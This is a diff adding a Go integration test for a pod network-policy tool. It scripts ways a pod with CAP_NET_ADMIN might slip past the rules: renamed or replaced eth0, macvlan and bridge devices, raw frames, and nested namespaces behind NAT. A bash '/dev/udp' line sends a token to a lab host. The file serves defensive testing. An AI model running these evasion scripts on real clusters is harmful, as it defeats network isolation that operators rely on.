@@ -1,0 +1,99 @@
+package attack
+
+import (
+	"fmt"
+	"net/netip"
+	"testing"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/podwall/podwall/integration/attack/intruder"
+	"github.com/podwall/podwall/integration/lab"
+)
+
+// A pod with CAP_NET_ADMIN makes devices and namespaces, through which it hopes
+// to reach the wire without meeting a rule.
+func TestDevice(t *testing.T) {
+	t.Parallel()
+	wage(t, newField(t), deviceAttacks(), "jail", "narrow")
+}
+
+// nest makes a namespace whose name in the script is $nested.
+const nest = `
+	unshare --net sleep 5 >/dev/null 2>&1 & nested=$!
+	while [ "$(readlink /proc/$nested/ns/net)" = "$(readlink /proc/self/ns/net)" ]; do sleep 0.01; done
+	inside() { nsenter --net=/proc/$nested/ns/net "$@"; }
+`
+
+// deviceAttacks send by a device that the intruder makes.
+func deviceAttacks() []attack {
+	admin := []int{intruder.NetAdmin}
+	at := netip.AddrPortFrom(lab.World4, 8080)
+	// scripted attacks change the pod, then send from an ordinary socket.
+	scripted := func(name string, script string) attack {
+		return attack{name: name, needs: admin, far: true, damage: true, act: func(_ *field, p *pod, token []byte) intruder.Act {
+			return intruder.Act{Script: p.fill(script), Sends: []intruder.Send{plain(at, nil, token)}}
+		}}
+	}
+	// written attacks send a frame to a device other than eth0.
+	written := func(name, device, script string) attack {
+		return attack{name: name, needs: append(admin, intruder.NetRaw), damage: true, act: func(f *field, p *pod, token []byte) intruder.Act {
+			return intruder.Act{Script: p.fill(script), Sends: []intruder.Send{{Domain: unix.AF_PACKET, Type: unix.SOCK_RAW,
+				Device: device, Ether: etherIPv4, Packets: [][]byte{whole(f, p, token)}}}}
+		}}
+	}
+	const (
+		away  = "ip addr flush dev eth0; " // its addresses go elsewhere
+		home  = "ip addr add $addr/24 dev $dev; ip link set $dev up; ip route replace default via $router dev $dev; "
+		bound = "ip link add m0 link eth0 type macvlan mode bridge; "
+	)
+	return []attack{
+		scripted("eth0 renamed", "ip link set eth0 down; ip link set eth0 name x; ip link set x up; ip route add default via $router"),
+		scripted("eth0 replaced", "ip link set eth0 down; ip link set eth0 name x; ip link set x up; ip link add eth0 type veth peer name y; ip route add default via $router"),
+		scripted("macvlan", bound+away+"dev=m0; "+home),
+		scripted("macvlan with eth0's MAC", "mac=$(cat /sys/class/net/eth0/address); ip link add m0 link eth0 address $mac type macvlan mode passthru; "+away+"dev=m0; "+home),
+		scripted("bridge", "ip link add b0 address $(cat /sys/class/net/eth0/address) type bridge; ip link set eth0 master b0; "+away+"dev=b0; "+home),
+		written("frame by a macvlan", "m0", bound+"ip link set m0 up"),
+		written("frame by a bridge", "b0", "ip link add b0 type bridge; ip link set eth0 master b0; ip link set b0 up"),
+		written("frame by a pair of veths and a bridge", "v0",
+			"ip link add b0 type bridge; ip link add v0 type veth peer name v1; ip link set eth0 master b0; ip link set v1 master b0; ip link set b0 up; ip link set v0 up; ip link set v1 up"),
+		{name: "nested namespace behind a router", needs: nestingCaps(), far: true, damage: true, act: nested(`
+			ip link add v0 type veth peer name v1 netns $nested
+			ip addr add 10.9.0.1/24 dev v0; ip link set v0 up
+			inside ip addr add 10.9.0.2/24 dev v1; inside ip link set v1 up; inside ip route add default via 10.9.0.1
+			sysctl -qw net.ipv4.ip_forward=1
+			nft 'table ip masks { chain c { type nat hook postrouting priority srcnat; oifname "eth0" masquerade; }; }'`)},
+		{name: "nested namespace behind a bridge", needs: nestingCaps(), far: true, damage: true, act: nested(`
+			ip link add b0 type bridge; ip link set b0 up
+			ip link add v0 type veth peer name v1 netns $nested; ip link set v0 master b0 up
+			ip addr flush dev eth0; ip link set eth0 master b0
+			inside ip addr add $addr/24 dev v1; inside ip link set v1 up; inside ip route add default via $router`)},
+		{name: "nested namespace behind a macvlan", needs: nestingCaps(), far: true, damage: true, act: nested(`
+			ip link add m0 link eth0 type macvlan mode bridge; ip link set m0 netns $nested
+			ip addr flush dev eth0
+			inside ip addr add $addr/24 dev m0; inside ip link set m0 up; inside ip route add default via $router`)},
+		{name: "eth0 in a nested namespace and back", needs: nestingCaps(), far: true, damage: true, act: nested(`
+			ip link set eth0 netns $nested; inside ip link set eth0 netns /proc/$$/ns/net
+			ip addr add $addr/24 dev eth0; ip link set eth0 up; ip route add default via $router
+			inside() { "$@"; }`)},
+	}
+}
+
+// nestingCaps are what making a namespace takes, beyond networks.
+func nestingCaps() []int { return []int{intruder.NetAdmin, unix.CAP_SYS_ADMIN} }
+
+// fill puts the pod's addresses into a script.
+func (p *pod) fill(script string) string {
+	return fmt.Sprintf("addr=%s; router=%s; ", p.v4, lab.Gateway4) + script
+}
+
+// nested acts in a namespace inside the pod's: a script makes the way there, and
+// a datagram is sent from there.
+func nested(script string) func(*field, *pod, []byte) intruder.Act {
+	return func(_ *field, p *pod, token []byte) intruder.Act {
+		return intruder.Act{Script: p.fill(nest + script + fmt.Sprintf(`
+			inside bash -c 'echo %s > /dev/udp/%s/8080' || true
+			sleep 0.05; inside bash -c 'echo %s > /dev/udp/%s/8080' || true
+			kill $nested`, token, lab.World4, token, lab.World4))}
+	}
+}
